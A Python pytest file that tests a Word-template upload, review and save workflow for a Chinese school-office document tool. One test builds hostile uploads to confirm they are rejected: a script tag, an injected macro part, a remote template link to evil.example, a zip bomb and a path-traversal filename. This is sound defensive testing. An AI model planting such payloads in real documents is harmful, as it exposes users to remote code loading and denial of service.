"""A Word form goes out, comes back edited, is looked at, and is written once as the command does."""

import html
import io
import shutil
import zipfile

import docx
import pytest

from kcbx_docs.filing import fromword
from kcbx_docs.packs.persons import NOBODY
from tests.cli.office import run
from tests.desk.conftest import OWN
from tests.desk.test_answers import words

LETTER = {"name": "本单位", "doc": "urge-notice"}
CHANGED = "请您收到本函后与我们联系"


@pytest.fixture
def form(browser) -> bytes:
    """Return the Word form as the page hands it out."""
    answer = browser.get("/templates/word/file", query_string=LETTER)
    assert "attachment" in answer.headers["Content-Disposition"]
    return answer.data


def edited(data: bytes, before: str = "请您收到后", after: str = "请您收到本函后") -> bytes:
    document, out = docx.Document(io.BytesIO(data)), io.BytesIO()
    for run_ in (run_ for one in document.paragraphs for run_ in one.runs):
        run_.text = run_.text.replace(before, after)
    document.save(out)
    return out.getvalue()


@pytest.fixture
def give(browser):
    """Return what hands a file in, or goes on with one that was handed in."""

    def given(data: bytes | None = None, name: str = "改.docx", **told: str):
        files = {"files": (io.BytesIO(data), name)} if data is not None else {}
        return browser.post(
            "/templates/word", query_string=LETTER, data={**told, **files}, headers=OWN
        )

    return given


def fields(text: str) -> dict[str, str]:
    return {
        name: text.split(f'name="{name}" value="')[1].split('"', maxsplit=1)[0]
        for name in ("files-kept", "seen", "then")
    }


def own_files(root) -> dict[str, bytes]:
    home = root / "templates"
    found = (path for path in sorted(home.rglob("*")) if path.is_file())
    return {path.relative_to(home).as_posix(): path.read_bytes() for path in found}


def test_the_rosters_are_read_once_a_file_was_brought_and_not_before(
    browser, form, give, monkeypatch
):
    asked = []
    monkeypatch.setattr(fromword, "known_people", lambda *_: asked.append(1) or NOBODY)
    browser.get("/templates/word", query_string=LETTER)
    give()
    assert asked == []
    give(edited(form))
    assert asked == [1]


def test_what_was_handed_out_is_that_of_pack_export(form, desk) -> None:
    run(desk.root, "pack", "export", "本单位", "urge-notice", "出.docx")
    assert (desk.root / "出.docx").read_bytes() == form


def test_it_is_looked_at_then_written_once_as_pack_take_writes_it(
    form, give, desk, tmp_path_factory
) -> None:
    looked = give(edited(form)).get_data(as_text=True)
    assert "<ins>本函</ins>" in looked
    assert "templates/documents/urge-notice.html" in looked
    assert "kcbx pack take 本单位 urge-notice 改.docx" in looked
    assert own_files(desk.root) == {}
    for _ in range(2):  # a double click
        done = give(**fields(looked), write="1")
        assert done.status_code == 200, done.get_data(as_text=True)
        assert "已经写好" in done.get_data(as_text=True)
    other = tmp_path_factory.mktemp("other")
    shutil.copy(desk.root / "kcbx.yaml", other)
    (other / "改.docx").write_bytes(edited(form))
    day = ("--as-of", desk.today().isoformat())
    run(other, "pack", "take", "本单位", "urge-notice", "改.docx", "--yes", *day)
    assert own_files(desk.root) == own_files(other)
    assert CHANGED in own_files(other)["documents/urge-notice.html"].decode()
    assert not (desk.root / "旧模板包").exists()


def test_two_pages_open_at_once_overwrite_nothing(form, give, desk) -> None:
    first = give(edited(form)).get_data(as_text=True)
    give(**fields(first), write="1")
    mine = own_files(desk.root)
    second = give(edited(form, "有什么难处", "有难处"))
    text = desk.root / "templates/documents/urge-notice.html"
    text.write_text(text.read_text("utf-8") + "{# 刚才别人加的 #}\n", "utf-8")
    answer = give(**fields(second.get_data(as_text=True)), write="1")
    assert answer.status_code == 409
    assert "刚才被改过" in answer.get_data(as_text=True)
    assert "刚才别人加的" in text.read_text("utf-8")
    again = give(**fields(answer.get_data(as_text=True)), write="1")
    assert again.status_code == 200
    assert "刚才别人加的" in text.read_text("utf-8")
    (kept,) = (desk.root / "旧模板包").rglob("urge-notice.html")
    assert kept.read_bytes() == mine["documents/urge-notice.html"] + "{# 刚才别人加的 #}\n".encode()


def test_what_lint_would_say_is_said_and_nothing_written(form, give, desk) -> None:
    bad = edited(form, "有什么难处", "依照《义务教育法》第五条")
    shown = give(bad).get_data(as_text=True)
    assert "TMPL047" in shown
    assert 'name="write"' not in shown
    assert give(**fields(shown), write="1").status_code == 422
    braces = edited(form, "{{ 监护人.姓名 }}", "{{ 学生.姓名 }}")
    assert "要由人改" in give(braces).get_data(as_text=True)
    assert own_files(desk.root) == {}


def packed(data: bytes, **parts: bytes) -> bytes:
    """Add parts to a Word file."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


LINKED = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("html", "REND0"),
        ("macro", "REND022"),
        ("link", "REND023"),
        ("bomb", "REND021"),
        ("empty", "REND0"),
    ],
)
def test_hostile_files_are_refused_in_chinese(form, give, desk, name: str, told: str) -> None:
    bad = {
        "html": b"<html><script>alert(1)</script></html>",
        "macro": packed(form, **{"word/vbaProject.bin": b"macro"}),
        "link": packed(form, **{"word/_rels/settings.xml.rels": LINKED.encode()}),
        "bomb": packed(form, **{"word/big.xml": b"<a>" + b" " * 40_000_000 + b"</a>"}),
        "empty": b"",
    }
    answer = give(bad[name], "../<b>改.docx")
    text = answer.get_data(as_text=True)
    assert answer.status_code == 422
    assert told in text, text
    assert "没有收下，原因和改法" in text
    assert "<b>改" not in text
    assert str(desk.root) not in text
    assert not list((desk.root / "output").glob(".desk-*/*.docx"))


def test_what_came_with_the_program_can_only_be_looked_at(browser, form) -> None:
    asked = {"name": "yunnan", "doc": "urge-notice"}
    answer = browser.get("/templates/word", query_string=asked)
    assert answer.status_code == 422
    assert "PACK126" in answer.get_data(as_text=True)
    page = browser.get("/templates/document", query_string=asked).get_data(as_text=True)
    assert "/templates/word?name=本单位&doc=urge-notice" in html.unescape(page)
    assert "只能看" in words(page)


def test_a_period_of_the_offices_own_is_ticked_and_written_as_the_command_does(
    form, give, desk
) -> None:
    """The keeper was told of a rule that has nothing to do with it, and of braces."""
    data = edited(form, after="请您收到后三日内")
    looked = give(data).get_data(as_text=True)
    assert "勾「三日内是本单位自己定的工作期限」" in looked and "还不能写" in looked
    assert "本单位的《劝返通知书》 第 " in looked
    ticked = give(own="三日内", look="1", **fields(looked)).get_data(as_text=True)
    assert 'value="三日内" checked' in ticked
    assert "kcbx pack take 本单位 urge-notice 改.docx --own 三日内" in ticked
    assert "已经写好" in give(own="三日内", write="1", **fields(ticked)).get_data(as_text=True)
    mine = own_files(desk.root)
    assert "自定期限:\n  urge-notice: 三日内" in mine["pack.yaml"].decode()
    assert "请您收到后三日内" in mine["documents/urge-notice.html"].decode()
